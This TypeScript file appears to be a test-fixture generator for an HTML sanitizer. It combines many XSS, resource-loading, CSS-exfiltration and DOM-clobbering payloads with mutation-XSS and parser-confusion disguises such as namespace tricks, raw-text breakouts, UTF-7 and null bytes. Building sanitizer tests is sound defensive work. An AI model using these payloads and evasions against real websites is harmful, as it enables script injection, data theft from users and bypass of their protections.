/**
 * Hostile HTML by grammar: what runs, loads, sends or leaves (`ATTACKS`), put into the ways by which it is known to get past
 * those who read HTML otherwise than a browser does (`DISGUISES`): mutation by re-parsing, namespaces, raw text, comments,
 * entities, encodings. The techniques are public knowledge (the HTML standard's own notes on parsing; the evasion lists of OWASP and
 * of html5sec; the write-ups on mutation XSS by Heiderich and others): they are written down here anew, and no list is copied.
 */
export interface Trap {
  /** An address that nobody may ask for. */
  readonly url: string;
  /** A script that leaves a mark in the window. */
  readonly js: string;
}

export interface HostileLetter {
  readonly name: string;
  readonly html: string;
}

/** What stands in every letter and must be read in the end: a letter that is swallowed whole would prove nothing. */
export const HARMLESS = 'The mole is harmless.';

type Fragment = (trap: Trap) => string;

const attribute = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
const entities = (text: string): string => Array.from(text, (sign) => `&#${sign.codePointAt(0) ?? 0}`).join('');
const hexEntities = (text: string): string =>
  Array.from(text, (sign) => `&#x${(sign.codePointAt(0) ?? 0).toString(16)};`).join('');
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const page = ({ js }: Trap): string => `<script>${js}</script>`;
const drawing = ({ url, js }: Trap): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${attribute(js)}"><image href="${url}"/><script>${js}</script></svg>`;

/** Handlers that fire by themselves, with the element that they fire on. */
const BY_THEMSELVES: readonly (readonly [element: string, handler: string, more: string])[] = [
  ['img', 'onerror', 'src=x:x'],
  ['img', 'onload', 'src="data:image/gif;base64,R0lGODlhAQABAAAAACw="'],
  ['svg', 'onload', ''],
  ['body', 'onload', ''],
  ['body', 'onpageshow', ''],
  ['body', 'onhashchange', ''],
  ['input', 'onfocus', 'autofocus'],
  ['select', 'onfocus', 'autofocus'],
  ['textarea', 'onfocus', 'autofocus'],
  ['button', 'onfocus', 'autofocus'],
  ['video', 'onloadstart', 'src=x:x'],
  ['audio', 'onerror', 'src=x:x'],
  ['details', 'ontoggle', 'open'],
  ['marquee', 'onstart', ''],
  ['div', 'onpointerrawupdate', ''],
  ['div', 'onanimationstart', 'style="animation-name:x"'],
  ['div', 'onfocusin', 'tabindex=1 autofocus'],
  ['div', 'onbeforecopy', 'contenteditable'],
  ['iframe', 'onload', 'src=about:blank'],
  ['object', 'onerror', 'data=x:x'],
  ['embed', 'onload', 'src=x:x'],
  ['link', 'onerror', 'rel=stylesheet href=x:x'],
  ['style', 'onload', ''],
  ['script', 'onerror', 'src=x:x'],
  ['dialog', 'oncancel', 'open'],
  ['a', 'oncontentvisibilityautostatechange', 'style="display:block;content-visibility:auto"'],
];

/** Elements and attributes that load. */
const LOADING: readonly Fragment[] = [
  ({ url }) => `<img src="${url}">`,
  ({ url }) => `<img srcset="${url} 1x, ${url}/2 2x" sizes=100vw>`,
  ({ url }) => `<img src=x:x lowsrc="${url}" dynsrc="${url}">`,
  ({ url }) => `<image src="${url}">`,
  ({ url }) => `<picture><source srcset="${url}"><img></picture>`,
  ({ url }) => `<input type=image src="${url}">`,
  ({ url }) => `<video poster="${url}" src="${url}" autoplay></video>`,
  ({ url }) => `<video><track default src="${url}"></video>`,
  ({ url }) => `<audio src="${url}" preload=auto autoplay></audio>`,
  ({ url }) => `<iframe src="${url}"></iframe>`,
  ({ url }) => `<frameset><frame src="${url}"></frameset>`,
  ({ url }) => `<object data="${url}" type=text/html></object>`,
  ({ url }) => `<object codebase="${url}" classid=x><param name=movie value="${url}"></object>`,
  ({ url }) => `<embed src="${url}">`,
  ({ url }) => `<applet codebase="${url}" code=x archive="${url}"></applet>`,
  ({ url }) => `<script src="${url}"></script>`,
  ({ url }) => `<script type=module>import "${url}"</script>`,
  ({ url }) => `<script type=importmap>{"imports":{"x":"${url}"}}</script>`,
  ({ url }) => `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url}"]}]}</script>`,
  ({ url }) => `<link rel=stylesheet href="${url}">`,
  ({ url }) => `<link rel="icon shortcut" href="${url}">`,
  ({ url }) => `<link rel=preload as=image href="${url}">`,
  ({ url }) => `<link rel=prefetch href="${url}">`,
  ({ url }) => `<link rel=dns-prefetch href="${url}">`,
  ({ url }) => `<link rel=preconnect href="${url}">`,
  ({ url }) => `<link rel=modulepreload href="${url}">`,
  ({ url }) => `<link rel=manifest href="${url}">`,
  ({ url }) => `<link rel=import href="${url}">`,
  ({ url }) => `<body background="${url}">`,
  ({ url }) => `<table background="${url}"><tr><td background="${url}">x</table>`,
  ({ url }) => `<html manifest="${url}">`,
  ({ url }) => `<base href="${url}/"><img src=below>`,
  ({ url }) => `<meta http-equiv=refresh content="0;url=${url}">`,
  ({ url }) => `<meta http-equiv=refresh content="0; URL='${url}'">`,
  ({ url }) => `<meta http-equiv=Set-Cookie content="a=b"><meta http-equiv=Link content="<${url}>;rel=preload">`,
  ({ url }) => `<meta http-equiv=Content-Security-Policy content="default-src *; report-uri ${url}"><img src="${url}">`,
  ({ url }) => `<a href="${url}" ping="${url}">read on</a>`,
  ({ url }) => `<area href="${url}"><map name=m><area href="${url}"></map>`,
  ({ url }) => `<form action="${url}"><input name=q value=secret autofocus><button>send</button></form>`,
  ({ url }) => `<form id=f action="${url}"></form><button form=f formaction="${url}">send</button>`,
  ({ url }) => `<isindex action="${url}" prompt=x type=image src="${url}">`,
  ({ url }) => `<portal src="${url}"></portal><fencedframe src="${url}"></fencedframe>`,
  ({ url }) => `<?xml-stylesheet href="${url}"?><!DOCTYPE x SYSTEM "${url}">`,
  ({ url }) => `<!DOCTYPE x [<!ENTITY e SYSTEM "${url}">]><p>&e;</p>`,
  // Style sheets: what they fetch, and what they could tell of the page.
  ({ url }) => `<style>@import url(${url});</style>`,
  ({ url }) => `<style>@import "${url}" screen;</style>`,
  ({ url }) => `<style>@namespace "${url}";body{background:url("${url}")}</style>`,
  ({ url }) => `<style>@font-face{font-family:f;src:url(${url})}*{font-family:f}</style>`,
  ({ url }) => `<style>@font-face{font-family:f;src:url(${url});unicode-range:U+41}p{font-family:f}</style><p>A</p>`,
  ({ url }) => `<style>input[value^="s"]{background:url(${url})}</style><input value=secret>`,
  ({ url }) => `<style>body:has(p){background-image:image-set("${url}" 1x)}</style>`,
  ({ url }) => `<style>p::before{content:url(${url})}li{list-style:url(${url})}</style>`,
  ({ url }) =>
    `<style>*{cursor:url(${url}),auto;border-image:url(${url});mask:url(${url}#m);filter:url(${url}#f)}</style>`,
  ({ url }) => `<style>\\40 import '${url}';</style>`,
  ({ url }) => `<p style="background:url(${url})">x</p>`,
  ({ url }) => `<p style="background:\\75 rl('${url}')">x</p>`,
  ({ url }) => `<p style="behavior:url(${url});-moz-binding:url(${url}#x)">x</p>`,
  ({ url }) => `<p style='--a:url("${url}");background:var(--a)'>x</p>`,
  // Drawings and formulas.
  ({ url }) => `<svg><image href="${url}" xlink:href="${url}"/></svg>`,
  ({ url }) => `<svg><use href="${url}#x" xlink:href="${url}#x"/></svg>`,
  ({ url }) => `<svg><feImage href="${url}"/><filter><feImage xlink:href="${url}"/></filter></svg>`,
  ({ url }) => `<svg><style>@import '${url}';*{fill:url(${url})}</style></svg>`,
  ({ url }) => `<svg><foreignObject><iframe src="${url}"></iframe><img src="${url}"></foreignObject></svg>`,
  ({ url }) => `<svg><a xlink:href="${url}"><text>read on</text></a><set attributeName=href to="${url}"/></svg>`,
  ({ url }) => `<svg><script href="${url}"/><script xlink:href="${url}"/></svg>`,
  ({ url }) => `<svg><animate xlink:href=#x attributeName=href values="${url}"/><a id=x><text>x</text></a></svg>`,
  ({ url }) =>
    `<math href="${url}"><mi xlink:href="${url}">x</mi><maction actiontype="statusline#${url}">y</maction></math>`,
  (trap) => `<img src="data:image/svg+xml;base64,${base64(drawing(trap))}">`,
  (trap) => `<object data="data:image/svg+xml,${encodeURIComponent(drawing(trap))}"></object>`,
  (trap) => `<iframe src="data:text/html;base64,${base64(page(trap))}"></iframe>`,
  (trap) => `<embed src="data:image/svg+xml;base64,${base64(drawing(trap))}">`,
];

/** What runs. */
const RUNNING: readonly Fragment[] = [
  ({ js }) => `<script>${js}</script>`,
  ({ js }) => `<SCRIPT\n>${js}</SCRIPT\t>`,
  ({ js }) => `<script/x>${js}</script x>`,
  ({ js }) => `<script type="text/javascript;version=1">${js}</script>`,
  ({ js }) => `<svg><script>${entities(js)}</script></svg>`,
  ({ js }) => `<svg><script><![CDATA[${js}]]></script></svg>`,
  ({ js }) => `<math><script>${js}</script></math>`,
  (trap) => `<iframe srcdoc="${attribute(page(trap))}"></iframe>`,
  ({ js }) => `<iframe src="javascript:${attribute(js)}"></iframe>`,
  ({ js }) => `<a href="javascript:${attribute(js)}" autofocus>read on</a>`,
  ({ js }) => `<a href=" &#1;java&Tab;scr&NewLine;ipt&colon;${attribute(js)}">read on</a>`,
  ({ js }) => `<a href="${hexEntities(`javascript:${js}`)}">read on</a>`,
  ({ js }) => `<a href="vbscript:${attribute(js)}">read on</a><a href="livescript:${attribute(js)}">x</a>`,
  ({ js }) => `<form action="javascript:${attribute(js)}"><button autofocus>go</button></form>`,
  ({ js }) =>
    `<button formaction="javascript:${attribute(js)}">go</button><input type=submit formaction="javascript:${attribute(js)}">`,
  ({ js }) => `<object data="javascript:${attribute(js)}"></object><embed src="javascript:${attribute(js)}">`,
  ({ js }) => `<meta http-equiv=refresh content="0;url=javascript:${attribute(js)}">`,
  ({ js }) => `<svg><a xlink:href="javascript:${attribute(js)}"><text>read on</text></a></svg>`,
  ({ js }) =>
    `<svg><animate onbegin="${attribute(js)}" attributeName=x dur=1s><set onbegin="${attribute(js)}" attributeName=x></svg>`,
  ({ js }) => `<math><a xlink:href="javascript:${attribute(js)}">read on</a></math>`,
  ({ js }) => `<style>p{xss:expression(${js})}</style><p style="xss:expression(${attribute(js)})">x</p>`,
  ({ js }) => `<img src="javascript:${attribute(js)}"><img src=\`javascript:${attribute(js)}\`>`,
  ({ js }) => `<base href="javascript:/a/-${attribute(js)}//"><a href=x>read on</a>`,
  ({ js }) =>
    `<xml id=x><x><![CDATA[<img src=x:x onerror="${attribute(js)}">]]></x></xml><span datasrc=#x datafld=x></span>`,
  ({ js }) => `<template shadowrootmode=open><img src=x:x onerror="${attribute(js)}"></template>`,
  ({ js }) => `<x-own is=x onclick="${attribute(js)}">x</x-own>`,
  ...BY_THEMSELVES.map(
    ([element, handler, more]): Fragment =>
      ({ js }) =>
        `<${element} ${more} ${handler}="${attribute(js)}">x</${element}>`,
  ),
  ({ js }) => `<img/src=x:x/onerror=${entities(js).replaceAll('&', '&')};>`,
  ({ js }) => `<img src=x:x\u000Conerror\u000C=\u000C"${attribute(js)}">`,
  ({ js }) => `<img \u0000src=x:x on\u0000error="${attribute(js)}">`,
  ({ js }) => `<img src=x:x ONERROR='${js.replaceAll("'", '&apos;')}'>`,
  ({ js }) => `<<img src=x:x onerror="${attribute(js)}"//`,
];

/** Globals and names of a page that an element of the letter could take the place of. */
const CLOBBERING: readonly Fragment[] = [
  () => `<form id=viewer><input name=openPatient><input id=attributes></form>`,
  () => `<a id=viewer></a><a id=viewer name=findPatient href="x:y">x</a>`,
  () => `<img name=document><img name=body><form name=getElementById></form><iframe name=viewerReadout></iframe>`,
  () => `<input name=__proto__><p id=constructor>x</p><p id=root>x</p><div id=root></div>`,
];

const ATTACKS: readonly Fragment[] = [...LOADING, ...RUNNING, ...CLOBBERING];

/** How an attack is brought past a reader. */
const DISGUISES: Readonly<Record<string, (attack: string) => string>> = {
  plainly: (attack) => attack,
  'in an attribute that ends early': (attack) => `<p title="x">${attack}</p><p title='"><${attack}'>y</p>`,
  'behind a comment that ends otherwise': (attack) => `<!-->${attack}--><!--->${attack}<!-- --!>${attack}-->`,
  'in a comment of old': (attack) => `<!--[if gte IE 4]>${attack}<![endif]--><comment>${attack}</comment>`,
  'in raw text that ends in an attribute': (attack) =>
    `<style><a title="</style>${attack}">x</style><textarea><a title="</textarea>${attack}"></textarea>`,
  'in a title, a noscript, an xmp': (attack) =>
    `<title><a title="</title>${attack}"></title><noscript><p title="</noscript>${attack}"></noscript><xmp><p title="</xmp>${attack}"></xmp>`,
  'in an iframe, a noembed, a noframes': (attack) =>
    `<iframe><p title="</iframe>${attack}"></iframe><noembed><p title="</noembed>${attack}"></noembed><noframes><p title="</noframes>${attack}"></noframes>`,
  'through a formula and back': (attack) =>
    `<math><mtext><table><mglyph><style><!--</style><p title="--&gt;${attribute(attack)}">${attack}</table></mtext></math>`,
  'through a drawing and back': (attack) =>
    `<svg></p><style><a id="</style>${attack}">x</style><desc>${attack}</desc><title>${attack}</title></svg>`,
  'by a form within a form': (attack) =>
    `<form><math><mtext></form><form><mglyph><style></math>${attack}</style></mglyph></form>`,
  'by an annotation': (attack) =>
    `<math><annotation-xml encoding="text/html"><style>${attack}</style></annotation-xml><annotation-xml>${attack}</annotation-xml></math>`,
  'in a template within a select': (attack) => `<select><template>${attack}</template><option>${attack}</select>`,
  'fostered out of a table': (attack) => `<table><colgroup>${attack}<tr>${attack}<td>${attack}</table>`,
  'adopted by formatting that overlaps': (attack) => `<b><i><p></b>${attack}</i>${attack}</p><a><a>${attack}</a></a>`,
  'in a button that ends late': (attack) => `<button><p><button>${attack}</p></button><nobr><nobr>${attack}`,
  'in a section of characters': (attack) =>
    `<![CDATA[${attack}]]><svg><![CDATA[><image xlink:href="]]>${attack}"></svg>`,
  'as a processing instruction': (attack) => `<?php ${attack} ?><?>${attack}<%= ${attack} %></%x>${attack}`,
  'as entities, once and twice': (attack) =>
    `${attack.replaceAll('<', '&lt;')}${attribute(attack).replaceAll('<', '&amp;lt;')}<p title="${attribute(attack)}">x</p>`,
  'split by another': (attack) =>
    `${attack.replace(/<(\w)/, '<scr<script></script>$1')}${attack.replace('<', '<\u0000')}`,
  'with signs nobody sees': (attack) => `\uFEFF\u200B${attack.replaceAll(' ', '\u000C')}\u2028${attack}\u0000`,
  'deeply nested': (attack) => `${'<div>'.repeat(600)}${attack}${'</div>'.repeat(600)}`,
  'after a text without an end': (attack) => `${attack}<plaintext>${attack}</plaintext>`,
  'without its own end': (attack) => `${attack}<p ${attack.slice(1, -1)}`,
  'in another alphabet': (attack) =>
    `<meta charset=utf-7>+ADw-script+AD4-${attack.replaceAll('<', '+ADw-')}<meta charset=iso-2022-jp>\u001B$B${attack}\u001B(B`,
};

/** Every attack in every disguise, in an order that does not change. @param trapOf by the letter's number */
export function hostileLetters(trapOf: (letter: number) => Trap): readonly HostileLetter[] {
  return Object.entries(DISGUISES).flatMap(([disguise, dress], which) =>
    ATTACKS.map((attack, index) => {
      const number = which * ATTACKS.length + index;
      const dressed = dress(attack(trapOf(number)));
      return { name: `${index} ${disguise}`, html: `<p>${HARMLESS}</p>${dressed}` };
    }),
  );
}
